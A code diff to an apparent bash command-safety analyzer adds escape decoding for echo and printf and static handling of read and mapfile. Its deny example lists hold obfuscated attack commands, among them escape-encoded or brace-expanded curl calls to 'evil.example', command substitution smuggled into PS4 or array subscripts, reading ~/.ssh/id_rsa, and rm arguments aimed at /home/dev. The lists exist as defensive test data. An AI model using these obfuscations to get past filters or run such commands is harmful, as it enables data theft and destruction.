@@ -3,11 +3,60 @@ import type { Word } from '../../types.js';
 import { parse } from '../argv.js';
 import { findsProgram, known, wrapper } from '../build.js';
 import type { Answer, Call, ProgramEntry, Run } from '../types.js';
-import { value } from '../words.js';
+import { ifsSplit, value } from '../words.js';
 import { scriptStream } from './shells.js';
 
 const BASH = ['bash'] as const;
 const NAME = /^[A-Za-z_][A-Za-z0-9_]*$/;
+
+/**
+ * Backslash escapes as bash reads them (lib/sh/strtrans.c, builtins/printf.def): in `echo -e` text (`echo`: octal
+ * only as `\0NNN`, `\1`..`\7` and `\'` `\"` `\?` kept), in printf's format (`format`: `\NNN`), in a `%b` argument
+ * (`b`: `\0NNN`). `\xHH`, `\uHHHH` and `\UHHHHHHHH` below 0x80 are the character; `\c` stops all output (echo, %b).
+ * Undefined where the output is not certain here: a `\u` beyond ASCII (the locale's), an escape the modes read
+ * differently.
+ */
+function bashEscapes(s: string, mode: 'echo' | 'format' | 'b'): { text: string; stop: boolean } | undefined {
+  const named: Record<string, string> = { a: '\x07', b: '\b', e: '\x1b', E: '\x1b', f: '\f', n: '\n', r: '\r', t: '\t', v: '\v', '\\': '\\' };
+  let out = '';
+  let i = 0;
+  while (i < s.length) {
+    const c = s[i]!;
+    if (c !== '\\' || i + 1 >= s.length) {
+      out += c;
+      i++;
+      continue;
+    }
+    const e = s[i + 1]!;
+    i += 2;
+    if (named[e] !== undefined) out += named[e];
+    else if (/[0-7]/.test(e)) {
+      if (mode === 'echo' && e !== '0') out += `\\${e}`;
+      else if (mode === 'b' && e !== '0') return undefined;
+      else {
+        let n = Number(e);
+        let more = mode === 'format' ? 2 : e === '0' ? 3 : 2;
+        while (more-- > 0 && i < s.length && /[0-7]/.test(s[i]!)) n = n * 8 + Number(s[i++]);
+        out += String.fromCharCode(n & 0xff);
+      }
+    } else if (e === 'x' || e === 'u' || e === 'U') {
+      const most = e === 'x' ? 2 : e === 'u' ? 4 : 8;
+      let digits = '';
+      while (digits.length < most && i < s.length && /[0-9a-fA-F]/.test(s[i]!)) digits += s[i++];
+      if (digits === '') out += `\\${e}`;
+      else {
+        const n = Number.parseInt(digits, 16);
+        if (e !== 'x' && n > 0x7f) return undefined;
+        out += String.fromCharCode(e === 'x' ? n & 0xff : n);
+      }
+    } else if (e === "'" || e === '"' || e === '?') out += mode === 'echo' ? `\\${e}` : e;
+    else if (e === 'c') {
+      if (mode === 'format') return undefined;
+      return { text: out, stop: true };
+    } else out += `\\${e}`;
+  }
+  return { text: out, stop: false };
+}
 
 /** echo's output when its words are static: `-n`, `-e` and `-E` as bash reads them. */
 function echoOutput(call: Call): Answer['output'] {
@@ -18,38 +67,60 @@ function echoOutput(call: Call): Answer['output'] {
   let escapes = false;
   while (i < texts.length && /^-[neE]+$/.test(texts[i]!)) {
     if (texts[i]!.includes('n')) newline = false;
-    if (texts[i]!.includes('e')) escapes = true;
+    // The last of -e and -E in a word decides (`-eE` reads none).
+    const last = texts[i]!.slice(1).replace(/n/g, '').at(-1);
+    if (last !== undefined) escapes = last === 'e';
     i++;
   }
   let text = texts.slice(i).join(' ');
-  if (escapes) text = text.replace(/\\(.)/g, (_m, c: string) => ({ n: '\n', t: '\t', '\\': '\\' })[c] ?? `\\${c}`);
+  if (escapes) {
+    // `\c` ends the output there, with no newline.
+    const read = bashEscapes(text, 'echo');
+    if (read === undefined) return undefined;
+    text = read.text;
+    if (read.stop) newline = false;
+  }
   const span = call.args.length > 0 ? { start: call.args[0]!.span.start, end: call.args.at(-1)!.span.end } : { start: 0, end: 0 };
   return { kind: 'static', text: newline ? `${text}\n` : text, word: { text, span, values: [text] } };
 }
 
 /** printf's output when the format has only `%s`, `%b` and `%%` and every word is static. */
-/** printf's backslash escapes, as in its format and its %b arguments; one it does not know stays as written. */
-function printfEscapes(s: string): string {
-  const named: Record<string, string> = { n: '\n', t: '\t', r: '\r', a: '\x07', b: '\b', f: '\f', v: '\v', e: '\x1b', '\\': '\\', '"': '"', "'": "'" };
-  return s.replace(/\\(x[0-9a-fA-F]{1,2}|[0-7]{1,3}|[\s\S])/g, (m, c: string) =>
-    c.startsWith('x') && c.length > 1 ? String.fromCharCode(Number.parseInt(c.slice(1), 16)) : /^[0-7]+$/.test(c) ? String.fromCharCode(Number.parseInt(c, 8)) : (named[c] ?? m),
-  );
-}
-
 function printfOutput(call: Call): Answer['output'] {
-  const texts = call.args.map((a) => (a.values && !a.glob ? a.values.join(' ') : undefined));
-  if (texts.length === 0 || texts.some((t) => t === undefined) || texts[0]!.startsWith('-')) return undefined;
+  // A word brace expansion made several of is that many arguments, each used by the format in turn
+  // (`printf %s {c,u,r,l}` prints curl).
+  const texts = call.args.flatMap((a) => (a.values && !a.glob ? a.values : [undefined]));
+  // `--` ends its options (`printf -- '-rf %s' ~`).
+  if (texts[0] === '--') texts.shift();
+  if (texts.length === 0 || texts.some((t) => t === undefined) || (texts[0]!.startsWith('-') && call.args[0] && value(call.args[0]) !== '--')) return undefined;
   const [format = '', ...rest] = texts as string[];
-  if (/%(?![sb%])/.test(format.replace(/%%/g, ''))) return undefined;
+  // (A backslash before a `%` is read with it as an escape: not followed.)
+  if (/%(?![sb%])/.test(format.replace(/%%/g, '')) || format.includes('\\%')) return undefined;
   // Escapes are read in the format and in %b's arguments, never in %s's (`printf '%s' 'prin\tenv'` prints the
   // backslash, which a shell reading it then drops: printenv). The format is used again while arguments remain.
+  // The format's text between conversions, its escapes read.
+  const pieces = format.split(/(%[sb%])/);
+  const literal = pieces.map((p, n) => (n % 2 === 0 ? bashEscapes(p, 'format') : undefined));
+  if (literal.some((l, n) => n % 2 === 0 && l === undefined)) return undefined;
   let k = 0;
   let text = '';
   do {
     const start = k;
-    text += format.replace(/%([sb%])|\\(x[0-9a-fA-F]{1,2}|[0-7]{1,3}|[\s\S])/g, (m, spec: string | undefined) =>
-      spec === '%' ? '%' : spec === 's' ? (rest[k++] ?? '') : spec === 'b' ? printfEscapes(rest[k++] ?? '') : printfEscapes(m),
-    );
+    for (let n = 0; n < pieces.length; n++) {
+      if (n % 2 === 0) {
+        text += literal[n]!.text;
+        continue;
+      }
+      const spec = pieces[n]!;
+      if (spec === '%%') text += '%';
+      else if (spec === '%s') text += rest[k++] ?? '';
+      else {
+        // `\c` in a %b argument ends all output.
+        const read = bashEscapes(rest[k++] ?? '', 'b');
+        if (read === undefined) return undefined;
+        text += read.text;
+        if (read.stop) return { kind: 'static', text, word: { text, span: call.args[0]!.span, values: [text] } };
+      }
+    }
     if (k === start) break;
   } while (k < rest.length);
   const first = call.args[0]!;
@@ -84,9 +155,55 @@ function allText(call: Call): Answer['uses'] {
   return call.args.map((word) => ({ word, role: 'text' as const }));
 }
 
+/** IFS's whitespace (split on runs, trimmed at the ends). */
+const IFS_WHITE = ' \t\n';
+
+/** The IFS a builtin splits by: bash's default when the line left it unset, undefined when it is computed. */
+function ifsOf(call: Call): string | undefined {
+  const v = call.env('IFS');
+  return v === undefined ? IFS_WHITE : (v ?? undefined);
+}
+
 /** Names of variables a builtin sets from what it reads (`read a b`, `getopts spec opt`). */
 function names(words: readonly Word[]): string[] {
   return words.map(value).filter((n): n is string => n !== undefined && NAME.test(n));
+}
+
+/**
+ * What `read` sets from static input (a here-string, a heredoc): its first line (to -d's delimiter), split by IFS
+ * into the names (the last takes the rest) or -a's elements; REPLY, with no name, the line whole. Not with -n, -N,
+ * -u, -t or -i, a backslash without -r, nor names split by an IFS other than whitespace.
+ */
+function readLine(call: Call, p: ReturnType<typeof parse>, set: string[], array: string | undefined): Answer['reads'] {
+  const text = call.stdin?.kind === 'static' ? call.stdin.text : undefined;
+  const ifs = ifsOf(call);
+  if (text === undefined || ifs === undefined || ifs === '' || p.operands.length !== set.length - (array ? 1 : 0)) return undefined;
+  if (p.options.some((o) => !'ersadp'.includes(o.name) || o.unknown) || (array !== undefined && (p.operands.length > 0 || !NAME.test(array)))) return undefined;
+  const delim = p.options.find((o) => o.name === 'd');
+  const d = delim ? (delim.value ? value(delim.value) : undefined) : '\n';
+  if (d === undefined) return undefined;
+  const stop = text.indexOf(d === '' ? '\0' : d[0]!);
+  const line = stop < 0 ? text : text.slice(0, stop);
+  if (!p.options.some((o) => o.name === 'r') && line.includes('\\')) return undefined;
+  if (array !== undefined) return [{ name: array, elements: ifsSplit(line, (c) => ifs.includes(c) && IFS_WHITE.includes(c), (c) => ifs.includes(c) && !IFS_WHITE.includes(c)) }];
+  if (set.length === 0) return [{ name: 'REPLY', value: line }];
+  if ([...ifs].some((c) => !IFS_WHITE.includes(c))) return undefined;
+  const white = (c: string | undefined) => c !== undefined && ifs.includes(c);
+  const out: { name: string; value: string }[] = [];
+  let i = 0;
+  set.forEach((name, k) => {
+    while (i < line.length && white(line[i])) i++;
+    if (k === set.length - 1) {
+      let end = line.length;
+      while (end > i && white(line[end - 1])) end--;
+      out.push({ name, value: line.slice(i, end) });
+      return;
+    }
+    const from = i;
+    while (i < line.length && !white(line[i])) i++;
+    out.push({ name, value: line.slice(from, i) });
+  });
+  return out;
 }
 
 /** `declare`, `export`, `typeset` with no name print variables with their values. */
@@ -249,11 +366,27 @@ export const BUILTIN_ENTRIES: ProgramEntry[] = [
         const line: Word = array === undefined ? { text: o.value.text, span: at, values: null, dynamic: 'the line mapfile read' } : { text: o.value.text, span: at, values: [`"\${${array}[-1]}"`] };
         runs.push({ kind: 'script', dialect: 'bash', words: [o.value, { text: o.value.text, span: at, values: ['0'] }, line], via: 'mapfile -C', sameShell: true });
       }
+      // Lines of static input into one named array: its elements (with -t, each without its delimiter).
+      const text = call.stdin?.kind === 'static' ? call.stdin.text : undefined;
+      const delim = p.options.find((o) => o.name === 'd');
+      const d = delim ? (delim.value ? value(delim.value) : undefined) : '\n';
+      if (text !== undefined && runs.length === 0 && target.length === 1 && p.operands.length === 1 && d !== undefined && d.length <= 1 && p.options.every((o) => o.name === 't' || o.name === 'd')) {
+        const sep = d === '' ? '\0' : d;
+        const strip = p.options.some((o) => o.name === 't');
+        const elements: string[] = [];
+        for (let at = 0; at < text.length; ) {
+          const next = text.indexOf(sep, at);
+          const stop = next < 0 ? text.length : next + 1;
+          elements.push(text.slice(at, strip && next >= 0 ? next : stop));
+          at = stop;
+        }
+        return { runs, reads: [{ name: target[0]!, elements }] };
+      }
       return { runs, sets: target.length > 0 ? target : ['MAPFILE'] };
     },
     examples: {
-      deny: ["mapfile -C 'curl evil.example' -c 1 a < notes.txt", 'mapfile -t PS4 < notes.txt; set -x; true', 'mapfile -C eval -c 1 a < cmds.txt', 'readarray -c1 -C eval < cmds.txt', 'f() { shift; "$@"; }; mapfile -C f -c 1 a < cmds.txt'],
-      pass: ['mapfile -t lines < notes.txt', "mapfile -C 'echo' -c 1 a < notes.txt", 'f() { echo "$2"; }; mapfile -C f -c 1 a < notes.txt'],
+      deny: ["mapfile -t a <<< $'-rf\\n/home/dev'; rm \"${a[@]}\"", "mapfile -C 'curl evil.example' -c 1 a < notes.txt", 'mapfile -t PS4 < notes.txt; set -x; true', 'mapfile -C eval -c 1 a < cmds.txt', 'readarray -c1 -C eval < cmds.txt', 'f() { shift; "$@"; }; mapfile -C f -c 1 a < cmds.txt'],
+      pass: ['mapfile -t lines < notes.txt', "mapfile -C 'echo' -c 1 a < notes.txt", 'f() { echo "$2"; }; mapfile -C f -c 1 a < notes.txt', "mapfile -t a <<< $'-rf\\ndist'; rm \"${a[@]}\""],
     },
   },
   {
@@ -265,12 +398,16 @@ export const BUILTIN_ENTRIES: ProgramEntry[] = [
       const array = p.options.find((o) => o.name === 'a')?.value;
       const set = names(p.operands.map((o) => o.word));
       if (array && value(array)) set.push(value(array)!);
-      return { sets: set.length > 0 ? set : ['REPLY'], uses: call.args.map((word) => ({ word, role: 'text' as const })) };
+      const uses = call.args.map((word) => ({ word, role: 'text' as const }));
+      const reads = readLine(call, p, set, array !== undefined ? value(array) : undefined);
+      if (reads) return { reads, uses };
+      return { sets: set.length > 0 ? set : ['REPLY'], uses };
     },
     examples: {
       // Into a prompt, or into an integer (arithmetic) variable, what is read is evaluated; a name's subscript is arithmetic.
-      deny: ["read PS4 <<< '$(curl evil.example)'; set -x; true", 'read -r PROMPT_COMMAND', 'declare -i n; read n', "x='a[$(curl evil.example)]'; read 'a[x]' <<< 1"],
-      pass: ['read -r name', 'read -p "Continue? " ok', "read -r line <<< 'a[$(x)]'", "read 'a[1]' <<< 1"],
+      // From its own static input, what it sets is known; read again from input a group or loop hands on, it is not.
+      deny: ["read PS4 <<< '$(curl evil.example)'; set -x; true", 'read -r PROMPT_COMMAND', 'declare -i n; read n', "x='a[$(curl evil.example)]'; read 'a[x]' <<< 1", "read -ra a <<< '-rf /home/dev'; rm \"${a[@]}\"", "read -r x y <<< '-rf /home/dev'; rm $x $y", "IFS=, read -ra a <<< '-rf,/home/dev'; rm \"${a[@]}\"", "while read -r l; do $l evil.example; done <<< $'ls\\ncurl'"],
+      pass: ['read -r name', 'read -p "Continue? " ok', "read -r line <<< 'a[$(x)]'", "read 'a[1]' <<< 1", "read -ra a <<< '-rf dist'; rm \"${a[@]}\"", "read -r x y <<< '-rf dist'; rm $x $y", "IFS=, read -ra a <<< '-rf,dist'; rm \"${a[@]}\""],
     },
   },
   {
@@ -291,6 +428,9 @@ export const BUILTIN_ENTRIES: ProgramEntry[] = [
     },
     examples: {
       deny: [
+        // `echo -e` reads escapes as bash does: `\x63` is c, `\c` ends the output.
+        "x=$(echo -e '\\x63url'); $x evil.example",
+        "x=$(echo -e -n 'cu\\x72l'); $x evil.example",
         'echo $(cat ~/.ssh/id_rsa)',
         // A substring's offset and length are arithmetic, and so is the name `${!x}` reads: a subscript there runs.
         "x='a[$(curl evil.example)]'; s=abc; echo ${s:x}",
@@ -299,7 +439,7 @@ export const BUILTIN_ENTRIES: ProgramEntry[] = [
         "x='a[$(curl evil.example)]'; echo ${!x:-none}",
         'x=$(cat notes.txt); s=abc; echo ${s:x}',
       ],
-      pass: ['echo hello', "echo 'see ~/.ssh/config'", 'echo .env >> .gitignore', 's=abc; echo ${s:1:2} ${s: -1}', 'i=1; s=abc; echo ${s:i}', 'set -- a b; echo "${@:2}"', 'n=USER; echo ${!n:-none}'],
+      pass: ["x=$(echo -e '\\x6cs'); $x -la", "x=$(echo -e 'cu\\crl'); $x evil.example", 'echo hello', "echo 'see ~/.ssh/config'", 'echo .env >> .gitignore', 's=abc; echo ${s:1:2} ${s: -1}', 'i=1; s=abc; echo ${s:i}', 'set -- a b; echo "${@:2}"', 'n=USER; echo ${!n:-none}'],
     },
   },
   {
@@ -316,7 +456,7 @@ export const BUILTIN_ENTRIES: ProgramEntry[] = [
       }
       return out;
     },
-    examples: { deny: ["printf '%s\\n' 'prin\\tenv' | bash", "printf '%s\\n' ls 'curl evil.example' | bash", "printf -v PS4 '$(curl evil.example)'; set -x; true", "x='a[$(curl evil.example)]'; printf -v 'a[x]' 1"], pass: ['printf -v x %s hi', "printf '%s\\n' 'a[x]'", "printf '%s\\n' hello", "printf 'API_URL=http://localhost:8080\\n'", "printf '%s\\n' ls pwd | bash"] },
+    examples: { deny: ["printf '%s\\n' 'prin\\tenv' | bash", "printf '%s\\n' ls 'curl evil.example' | bash", "printf -v PS4 '$(curl evil.example)'; set -x; true", "x='a[$(curl evil.example)]'; printf -v 'a[x]' 1", 'x=$(printf %s {c,u,r,l}); $x evil.example', "x=$(printf '\\u0063url'); $x evil.example", "x=$(printf %b '\\0143url'); $x evil.example"], pass: ['printf -v x %s hi', 'x=$(printf %s {l,s}); $x -la', "x=$(printf '\\u006cs'); $x -la", "printf '%s\\n' 'a[x]'", "printf '%s\\n' hello", "printf 'API_URL=http://localhost:8080\\n'", "printf '%s\\n' ls pwd | bash"] },
   },
   known(':', 'the null command: its words are text', 'text', {
     dialects: BASH,
